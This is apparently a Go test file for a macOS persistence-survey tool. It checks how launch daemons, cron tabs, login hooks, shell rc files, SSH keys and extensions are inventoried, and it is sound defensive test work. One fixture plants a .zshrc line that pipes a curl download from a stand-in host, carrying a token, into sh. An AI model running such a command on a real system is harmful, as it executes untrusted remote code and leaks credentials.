// SPDX-License-Identifier: Apache-2.0

package startup

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sentinel/internal/startup"
	"sentinel/internal/sysexec"
	"sentinel/internal/testenv"
	"sentinel/platform/unix/hostfile"
	"sentinel/platform/unix/shellscript"
)

const (
	head = `<?xml version="1.0"?><plist version="1.0"><dict>`
	tail = `</dict></plist>`
	key  = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAxmvsyLsJtiPBuiW15t0F9skL084qRAejT6fXk5tFBe"
)

const dump = `
 Records for UID -2 : FFFFEEEE

 #1:
                 Name: Example Ltd
       Developer Name: Example Ltd
                 Type: developer (0x20)
           Identifier: Example Ltd
  Embedded Item Identifiers:
    #1: 16.com.example.agent

 #2:
                 Name: agent
       Developer Name: Example Ltd
                 Type: legacy daemon (0x10010)
          Disposition: [enabled, allowed, visible, notified] (0xb)
           Identifier: 16.com.example.agent
                  URL: file:///Library/LaunchDaemons/com.example.agent.plist
 Records for UID 501 : FFFFEEEE

 #1:
                 Name: Notes
       Developer Name: (null)
                 Type: login item (0x4)
          Disposition: [enabled, disallowed, visible, notified] (0x9)
           Identifier: 4.com.example.notes
                  URL: file:///Applications/Notes%20App.app/
      Executable Path: /tmp/notes
`

// outputs are what programs print, by their names.
type outputs map[string]string

func (o outputs) Run(_ context.Context, c sysexec.Command) (sysexec.Result, error) {
	if c.Timeout == 0 {
		return sysexec.Result{}, fmt.Errorf("%s has no time limit", c.Path)
	}
	out, ok := o[c.Path]
	if !ok {
		return sysexec.Result{}, os.ErrNotExist
	}
	return sysexec.Result{Stdout: []byte(out)}, nil
}

var well = outputs{
	"/usr/bin/sfltool": dump, "/bin/launchctl": "disabled services = {\n\t\"com.example.off\" => disabled\n}\n",
	"/usr/bin/systemextensionsctl": "1 extension(s)\n*\t*\tTEAM\tcom.example.guard (4.1)\tGuard\t[activated enabled]\n",
	"/usr/bin/kmutil":              "    1  185 0  0  0  com.apple.kpi.bsd (25)\n    2  1 0xff  0x1  0x1  com.example.driver (1)\n",
}

func mac(t *testing.T) string {
	t.Helper()
	return testenv.Plant(t, map[string]string{
		"System/Library/LaunchDaemons/com.apple.x.plist":  head + "<key>Label</key><string>com.apple.x</string><key>ProgramArguments</key><array><string>/usr/libexec/x</string></array><key>MachServices</key><dict/>" + tail,
		"Library/LaunchDaemons/com.example.agent.plist":   head + "<key>Label</key><string>com.example.agent</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>/Library/Example/agent --token hunter2</string></array><key>RunAtLoad</key><true/><key>StartInterval</key><integer>300</integer>" + tail,
		"Library/LaunchDaemons/com.example.off.plist":     head + "<key>Label</key><string>com.example.off</string><key>Program</key><string>/Library/Example/gone</string><key>UserName</key><string>_www</string>" + tail,
		"Library/LaunchDaemons/broken.plist":              "no list",
		"Library/Example/agent":                           "",
		"Users/mira/Library/LaunchAgents/own.plist":       head + "<key>Label</key><string>own</string><key>ProgramArguments</key><array><string>/Users/mira/.x</string></array><key>Disabled</key><true/>" + tail,
		"Users/mira/.zshrc":                               "curl -s https://example.com/?token=hunter2 | sh\n",
		"Users/mira/.ssh/authorized_keys":                 `command="/usr/bin/true" ` + key + " mira\n",
		"Users/Shared/.zshrc":                             "x\n",
		"usr/lib/cron/tabs/mira":                          "*/5 * * * * /tmp/x\nno job\nPATH=/opt/bin:/bin\n@daily sh%/tmp/y\n",
		"etc/periodic/daily/100.own":                      "#!/bin/sh\n/Library/Example/agent\n",
		"etc/zshrc":                                       "/usr/libexec/path_helper -s\n",
		"Library/Preferences/com.apple.loginwindow.plist": head + "<key>LoginHook</key><string>/Library/Example/agent</string>" + tail,
	})
}

func collect(t *testing.T, root string, runner sysexec.Runner, euid int) startup.Found {
	t.Helper()
	found, err := New(Parts{Root: root, Runner: runner, EUID: euid, Owner: os.Geteuid()}).Startup(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func described(found startup.Found) (entries, unread []string) {
	for _, e := range found.Entries {
		var programs []string
		for _, p := range e.Programs {
			text := p.Path
			if p.Missing {
				text += "!missing"
			}
			programs = append(programs, text)
		}
		enabled := "?"
		if e.Enabled != nil {
			enabled = strconv.FormatBool(*e.Enabled)
		}
		entries = append(entries, fmt.Sprintf("%s | %s | %s | %s | %s | %s | %s | %s | %d", e.Kind, e.Name, e.File, e.When, e.User, enabled, strings.Join(programs, " "), e.Package, e.Origin))
	}
	for _, u := range found.Unread {
		unread = append(unread, u.Path+": "+u.Err.Error())
	}
	slices.Sort(entries)
	return entries, unread
}

// What a user has started is that user's, though crontab leaves the table to root, and what macOS lists has no file.
func TestWhatAUserChoseIsThatUsers(t *testing.T) {
	got := map[string]string{}
	for _, e := range collect(t, mac(t), well, 0).Entries {
		got[e.File] = e.By
	}
	for file, want := range map[string]string{
		"/usr/lib/cron/tabs/mira": "mira", "/Users/mira/Library/LaunchAgents/own.plist": "mira", "/Users/mira/.zshrc": "mira", "/Users/mira/.ssh/authorized_keys": "mira",
		"/Applications/Notes App.app/": "501", "/Library/LaunchDaemons/com.example.agent.plist": "", "/etc/zshrc": "", "kmutil showloaded": "",
	} {
		if by, ok := got[file]; by != want && (os.Geteuid() != 501 || by != "mira") || !ok {
			t.Errorf("%s: %q, %v, want %q", file, by, ok, want)
		}
	}
}

func TestAMacIsSurveyedWhole(t *testing.T) {
	entries, unread := described(collect(t, mac(t), well, 0))
	want := []string{
		"authorized_key | ssh-ed25519 mira | /Users/mira/.ssh/authorized_keys | ssh | mira | true | /usr/bin/true |  | 1",
		"background_item | Notes | /Applications/Notes App.app/ | login item | 501 | false | /tmp/notes!missing |  | 1",
		"cron_job | mira | /usr/lib/cron/tabs/mira | */5 * * * * | mira | true | /tmp/x!missing |  | 1",
		"cron_job | mira | /usr/lib/cron/tabs/mira | @daily | mira | true | $PATH/sh /tmp/y!missing |  | 1",
		"cron_job | mira: PATH | /usr/lib/cron/tabs/mira | with each job below it | mira | true | /opt/bin/!missing |  | 1",
		"cron_job | mira: what is not read | /usr/lib/cron/tabs/mira |  | mira | ? |  |  | 1",
		"cron_script | 100.own | /etc/periodic/daily/100.own | daily |  | true | /Library/Example/agent |  | 0",
		"extension | com.example.driver | kmutil showloaded | boot | root | true |  |  | 1",
		"extension | com.example.guard | systemextensionsctl list | boot | root | true |  | TEAM | 1",
		"launch_agent | own | /Users/mira/Library/LaunchAgents/own.plist |  | mira | false | /Users/mira/.x |  | 1",
		"launch_daemon | com.apple.x | /System/Library/LaunchDaemons/com.apple.x.plist | mach service | root | true | /usr/libexec/x | macOS | 2",
		"launch_daemon | com.example.agent | /Library/LaunchDaemons/com.example.agent.plist | load, every 300 s | root | true | /bin/sh /Library/Example/agent | Example Ltd | 1",
		"launch_daemon | com.example.off | /Library/LaunchDaemons/com.example.off.plist |  | _www | false | /Library/Example/gone!missing |  | 1",
		"login_hook | login | /Library/Preferences/com.apple.loginwindow.plist | login | root | true | /Library/Example/agent |  | 1",
		"shell_start | .zshrc | /Users/mira/.zshrc | shell | mira | true | curl sh |  | 1",
		"shell_start | zshrc | /etc/zshrc | shell |  | true | /usr/libexec/path_helper |  | 0",
	}
	for i, e := range entries { // the owner of the made-up homes is whoever runs the test
		entries[i] = strings.ReplaceAll(e, "| "+fmt.Sprint(os.Geteuid())+" |", "| 501 |")
	}
	if diff := cmp.Diff(want, entries); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"/Library/LaunchDaemons/broken.plist: there is no property list", "/usr/lib/cron/tabs/mira: lines that are no job: 1, the first is line 2"}, unread); diff != "" {
		t.Error(diff)
	}
}

func TestWhatAMacDoesNotTellIsSaid(t *testing.T) {
	_, unread := described(collect(t, t.TempDir(), outputs{"/usr/bin/kmutil": "Verwendung:"}, 501))
	want := []string{
		"/usr/bin/sfltool: not readable without root", "/bin/launchctl: file does not exist", "/usr/bin/systemextensionsctl: file does not exist", "/usr/bin/kmutil: unknown output",
	}
	if diff := cmp.Diff(want, unread); diff != "" {
		t.Error(diff)
	}
	silent := outputs{"/usr/bin/sfltool": "", "/bin/launchctl": well["/bin/launchctl"], "/usr/bin/systemextensionsctl": "0 extension(s)\n", "/usr/bin/kmutil": well["/usr/bin/kmutil"]}
	if _, unread := described(collect(t, t.TempDir(), silent, 0)); !slices.Equal(unread, []string{"/usr/bin/sfltool: its output has an unknown form"}) {
		t.Errorf("%q", unread)
	}
}

func TestAProgramWhoseNameIsAPatternIsNotMissing(t *testing.T) {
	s := &survey{Parts: Parts{Root: t.TempDir()}}
	for name, want := range map[string]bool{"/opt/x": true, "/opt/*/x": false, "/opt/x?": false, "/opt/[x]": false, "/opt/{x,y}": false, "/opt/$x": false} {
		if got := s.look(name); got.Missing != want {
			t.Errorf("%q: %+v", name, got)
		}
	}
}

func TestKeysThatAreLeftOutAreTold(t *testing.T) {
	root := mac(t)
	if err := os.WriteFile(root+"/Users/mira/.ssh/authorized_keys", []byte(strings.Repeat(key+"\n", 201)), 0o600); err != nil {
		t.Fatal(err)
	}
	_, unread := described(collect(t, root, well, 0))
	if !slices.Contains(unread, "/Users/mira/.ssh/authorized_keys: keys beyond the first 200: 1") {
		t.Errorf("%q", unread)
	}
}

func TestKeysOutsideOfHomesAreFound(t *testing.T) {
	root := mac(t)
	for name, text := range map[string]string{"/etc/ssh/sshd_config": "AuthorizedKeysFile /etc/keys/%u .ssh/%u\n", "/etc/keys/mira": key + " elsewhere\n", "/Users/mira/.ssh/mira": key + " below\n"} {
		os.MkdirAll(filepath.Dir(root+name), 0o755)
		if err := os.WriteFile(root+name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	found := map[string]string{}
	for _, e := range collect(t, root, well, 0).Entries {
		if e.Kind == startup.AuthorizedKey {
			found[e.File] = e.Name + " of " + e.User
		}
	}
	if diff := cmp.Diff(map[string]string{"/etc/keys/mira": "ssh-ed25519 elsewhere of mira", "/Users/mira/.ssh/mira": "ssh-ed25519 below of mira"}, found); diff != "" {
		t.Error(diff)
	}
}

func TestItIsKnownWhoseHomesThereAre(t *testing.T) {
	if homes := collect(t, mac(t), well, 0).Homes; homes["/Users/mira"] != "mira" || homes["/var/root"] != "" {
		t.Errorf("%q", homes)
	}
}

// What users have takes the place of nothing that is loaded into the kernel, and what has no place is said.
func TestWhatUsersHavePushesNothingOfTheSystemOut(t *testing.T) {
	root := mac(t)
	for i := range startup.MaxEntries/200 + 1 {
		dir := fmt.Sprintf("%s/Users/u%03d/.ssh", root, i)
		os.MkdirAll(dir, 0o755)
		if err := os.WriteFile(dir+"/authorized_keys", []byte(strings.Repeat(key+"\n", 200)), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	found := collect(t, root, well, 0)
	driver := slices.ContainsFunc(found.Entries, func(e startup.Entry) bool { return e.Name == "com.example.driver" })
	_, unread := described(found)
	last := fmt.Sprintf("/Users/u%03d/.ssh/authorized_keys: %v", startup.MaxEntries/200, startup.ErrTooMany)
	if !driver || len(found.Entries) != startup.MaxEntries || !slices.Contains(unread, last) {
		t.Errorf("driver %v, %d entries, %q", driver, len(found.Entries), unread)
	}
}

func TestFilesOfAHomeForWhichThereIsNoTimeAreNamed(t *testing.T) {
	late, cancel := context.WithCancel(t.Context())
	cancel()
	s := &survey{}
	s.homeEntries(late, account{name: "mira", home: "/Users/mira"}, &home{files: []file{fileOf("/Users/mira/.zshrc", []byte("/tmp/x"), hostfile.Meta{})}})
	s.found.Entries = make([]startup.Entry, startup.MaxEntries)
	s.listed(startup.Entry{File: "kmutil showloaded"})
	_, unread := described(startup.Found{Unread: s.found.Unread})
	if diff := cmp.Diff([]string{"/Users/mira/.zshrc: context canceled", "kmutil showloaded: " + startup.ErrTooMany.Error()}, unread); diff != "" {
		t.Error(diff)
	}
}

func TestPipesOfUsersAreNotWaitedFor(t *testing.T) {
	root := mac(t)
	for _, name := range []string{"/Users/mira/.bashrc", "/Users/mira/Library/LaunchAgents/pipe.plist", "/usr/lib/cron/tabs/eve"} {
		if err := syscall.Mkfifo(root+name, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	_, unread := described(collect(t, root, well, 0))
	for _, name := range []string{"/Users/mira/.bashrc", "/Users/mira/Library/LaunchAgents/pipe.plist", "/usr/lib/cron/tabs/eve"} {
		if !slices.Contains(unread, name+": not a regular file") {
			t.Errorf("%s: %q", name, unread)
		}
	}
}

func FuzzItems(f *testing.F) {
	f.Add(dump)
	f.Fuzz(func(t *testing.T, text string) {
		items, ok := parseItems(text)
		if len(items) > maxItems || !ok && strings.Contains(text, "\nRecords for UID 0") {
			t.Errorf("%d items, %v", len(items), ok)
		}
	})
}

// It is said of which files not all commands within commands were looked at.
func TestFilesOfEndlessCommandsAreNamed(t *testing.T) {
	testenv.HangGuard(t)
	root, script := mac(t), ""
	for i := range 40 {
		script += fmt.Sprintf("sh &lt;&lt;E%d\n$(", i)
	}
	plain := strings.ReplaceAll(script, "&lt;", "<")
	item := head + "<key>Label</key><string>deep</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>" + script + "</string></array>" + tail
	for name, text := range map[string]string{"/Users/mira/.zshrc": plain, "/usr/lib/cron/jobs/a1": plain, "/Library/LaunchDaemons/deep.plist": item} {
		os.MkdirAll(filepath.Dir(root+name), 0o755)
		if err := os.WriteFile(root+name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var got []string
	for _, u := range collect(t, root, well, 0).Unseen {
		got = append(got, u.Path+": "+u.Err.Error())
	}
	slices.Sort(got)
	end := ": " + shellscript.ErrCut.Error()
	if diff := cmp.Diff([]string{"/Library/LaunchDaemons/deep.plist" + end, "/Users/mira/.zshrc" + end, "/usr/lib/cron/jobs/a1" + end}, got); diff != "" {
		t.Error(diff)
	}
}
